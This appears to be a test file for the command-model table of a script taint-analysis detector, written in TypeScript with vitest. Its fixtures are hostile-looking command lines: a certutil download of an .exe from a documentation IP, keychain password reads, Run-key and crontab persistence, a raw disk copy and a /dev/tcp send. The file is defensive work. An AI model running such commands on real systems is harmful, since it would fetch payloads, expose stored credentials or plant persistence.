import { describe, expect, it } from "vitest";
import { UNKNOWN } from "../src/scripts/paths.js";
import { commandModel, runCommand } from "../src/scripts/shell-command-models.js";
import type { Value } from "../src/scripts/values.js";

// The command models are one table (a row per command: what it reads, writes, sends, runs) and one
// interpreter. These tests read rows through the interpreter with an engine that only records what
// it is told, so each assertion is about the row, not about the rest of the taint engine.

type Call = [string, ...unknown[]];

function recorder() {
  const calls: Call[] = [];
  let n = 0;
  const label = (kind: string) => ({ id: `${kind}${++n}`, kind });
  const rec = (name: string, args: unknown[]) => calls.push([name, ...args.slice(1)]);
  /** An engine method that records its call (without the location) and answers `answer()`. */
  const method =
    (name: string, answer: () => unknown = () => undefined) =>
    (...args: unknown[]) => {
      rec(name, args);
      return answer();
    };
  const unknown = () => ({ text: UNKNOWN });
  const eng = {
    caps: new Set<string>(),
    read: method("read", () => [label("read")]),
    secretSource: method("secretSource", () => label("secret")),
    envDump: method("envDump", unknown),
    envVar: method("envVar", unknown),
    namedSecret: method("namedSecret", unknown),
    decoded: method("decoded", unknown),
    fetched: method("fetched", unknown),
    download: method("download"),
    downloaded: () => undefined,
    exec: method("exec", unknown),
    execDownloaded: method("execDownloaded"),
    send: method("send"),
    persist: method("persist"),
    write: method("write"),
  };
  const run = (line: string, stdin?: Value) => {
    const argv = line.split(" ").map((text) => ({ text }));
    return runCommand(eng as never, { offset: 0, length: 1, line: 1, column: 1 }, argv, stdin);
  };
  /** The names of the engine calls, in order. */
  const told = () => calls.map((c) => c[0]);
  return { calls, run, told };
}

describe("the command table", () => {
  it("has a row per command, found by its base name", () => {
    expect(commandModel("curl")?.does).toBe("http");
    expect(commandModel("crontab")).toMatchObject({ does: "persist", what: "scheduled jobs (crontab)" });
    expect(commandModel("python3.12")).toMatchObject({ does: "interpreter", lang: "python" });
    expect(commandModel("perl")).toMatchObject({ does: "interpreter", lang: undefined });
    expect(commandModel("ls")).toBeUndefined();
  });

  it("knows no command by the name of an Object property (a script may name a command anything)", () => {
    for (const name of ["constructor", "__proto__", "tostring", "hasownproperty"])
      expect(commandModel(name)).toBeUndefined();
    const r = recorder();
    expect(r.run("constructor -c x", { text: "print(1)" })).toEqual({});
    expect(r.told()).toEqual([]);
  });
});

describe("the interpreter applies each kind of row", () => {
  it("download: certutil -urlcache saves its URL to the last operand; bitsadmin needs a URL", () => {
    const r = recorder();
    r.run("certutil -urlcache -f http://203.0.113.5/p.exe p.exe");
    expect(r.calls).toEqual([["download", { text: "p.exe" }, { text: "http://203.0.113.5/p.exe" }]]);
    const b = recorder();
    b.run("bitsadmin /transfer job local.txt out.txt");
    expect(b.calls).toEqual([]);
  });

  it("download-or-decode: certutil -decode reads one file and writes the decoded other", () => {
    const r = recorder();
    r.run("certutil -decode in.b64 out.exe");
    expect(r.told()).toEqual(["read", "decoded", "write"]);
    expect(r.calls[2]?.[1]).toEqual({ text: "out.exe" });
  });

  it("write: tee writes every operand with stdin and prints it; -a says append", () => {
    const r = recorder();
    const stdin = { text: "line" };
    expect(r.run("tee -a a.txt b.txt", stdin)).toBe(stdin);
    expect(r.calls).toEqual([
      ["write", { text: "a.txt" }, stdin, "tee -a"],
      ["write", { text: "b.txt" }, stdin, "tee -a"],
    ]);
  });

  it("write: git writes its clone target only for `git clone URL DIR`", () => {
    const r = recorder();
    r.run("git clone https://example.com/r.git dir");
    r.run("git pull origin main");
    expect(r.calls).toEqual([["write", { text: "dir" }, undefined, "git clone"]]);
  });

  it("keyed-copy: dd reads if= and writes of=", () => {
    const r = recorder();
    r.run("dd if=/dev/sda of=disk.img");
    expect(r.told()).toEqual(["read", "write"]);
    expect(r.calls[0]?.[1]).toEqual({ text: "/dev/sda", labels: undefined });
  });

  it("secret: the item a flag names, else the whole store", () => {
    const r = recorder();
    r.run("security find-generic-password -s github.com -w");
    r.run("security find-internet-password");
    r.run("security list-keychains");
    expect(r.calls).toEqual([
      ["namedSecret", "github.com"],
      ["secretSource", "passwords saved in your macOS keychain"],
    ]);
  });

  it("environment: `set` alone or with -p dumps it; `set -e` and `export A=1` do not", () => {
    const r = recorder();
    r.run("set");
    r.run("export -p");
    r.run("set -e");
    r.run("export A=1");
    r.run("printenv HOME");
    expect(r.calls).toEqual([["envDump"], ["envDump"], ["envVar", "HOME"]]);
  });

  it("persist: reg only for the Run key; crontab from stdin, not when listing", () => {
    const r = recorder();
    r.run("reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y");
    r.run("reg query HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run");
    r.run("crontab -l");
    r.run("crontab -", { text: "* * * * * x" });
    expect(r.calls.map((c) => c.slice(0, 2))).toEqual([
      ["persist", "the Windows Run registry key"],
      ["persist", "scheduled jobs (crontab)"],
    ]);
  });

  it("read: base64 -d decodes a literal as base64, base32 -d is labelled base32, cat passes stdin", () => {
    const r = recorder();
    r.run("base64 -d", { text: "aGVsbG8=" });
    r.run("base32 --decode", { text: "NBSWY3DP" });
    expect(r.calls).toEqual([
      ["decoded", { labels: undefined }, "base64", "hello"],
      ["decoded", { labels: undefined }, "base32", undefined],
    ]);
    const stdin = { text: "x" };
    expect(recorder().run("cat", stdin)).toBe(stdin);
  });

  it("read: sed -i writes the files after its script instead of printing them", () => {
    const r = recorder();
    r.run("sed -i s/a/b/ ~/.bashrc");
    expect(r.calls).toEqual([["write", { text: "~/.bashrc" }, { text: "s/a/b/" }, "sed -i"]]);
  });

  it("an unknown command sends only to a /dev/tcp path among its arguments", () => {
    const r = recorder();
    r.run("mytool /dev/tcp/203.0.113.5/80", { text: "data" });
    r.run("mytool file.txt");
    expect(r.calls).toEqual([["send", { body: [{ text: "data" }] }, "mytool"]]);
  });
});
